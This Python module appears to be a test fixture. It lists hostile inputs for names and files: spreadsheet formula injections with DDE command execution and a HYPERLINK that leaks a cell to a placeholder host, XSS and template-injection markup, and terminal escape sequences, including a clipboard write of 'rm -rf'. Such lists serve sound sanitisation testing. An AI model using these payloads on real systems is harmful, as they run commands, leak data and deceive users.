"""What a stranger may call a player, an event, a sheet or a file, to make a program do something."""

from __future__ import annotations

FORMULAS = [
    "=1+1+Ann",
    "+1+1+Bea",
    "-1+1+Cid",
    "@SUM(1,1)",
    "\t=1+1+Dan",
    "\r=1+1+Eve",
    "  =1+1+Fay",
    "＝1+1+Guy",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"Standings")',
    "=WEBSERVICE(A1)",
    "Ann;=1+1;Berg",
    'Ann","=1+1',
    "Ann\n=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "]]><x/>",
    "<!--",
    "&lt;b&gt;",
    "{{7*7}}",
    "{% raw %}",
    '{"name": "Ann"}',
    "</style></title>",
    "[bold red]Ann[/]",
]
TERMINAL = [
    "Ann\x1b[31mBerg",
    "Cy\x1b[2J\x1b[H",
    "Dee\x1b]8;;http://example.org\x1b\\here\x1b]8;;\x1b\\",
    "Eva\x1b]52;c;cm0gLXJm\x07",
    "Flo\x07",
    "Gus\x08\x08\x08Ann",
    "Hal\rAnn has won",
    "Ida\u202enna\u202c",
    "Jo\u2066x",
    "Kit\x9b31m",
    "Lea\x00Lee",
    "Max\x7f",
]
PAYLOADS = [*FORMULAS, *MARKUP, *TERMINAL]
FILE_NAME = "=cmd {{7*7}} <b> \x1b[31m\x07\u202e"  # without an ending
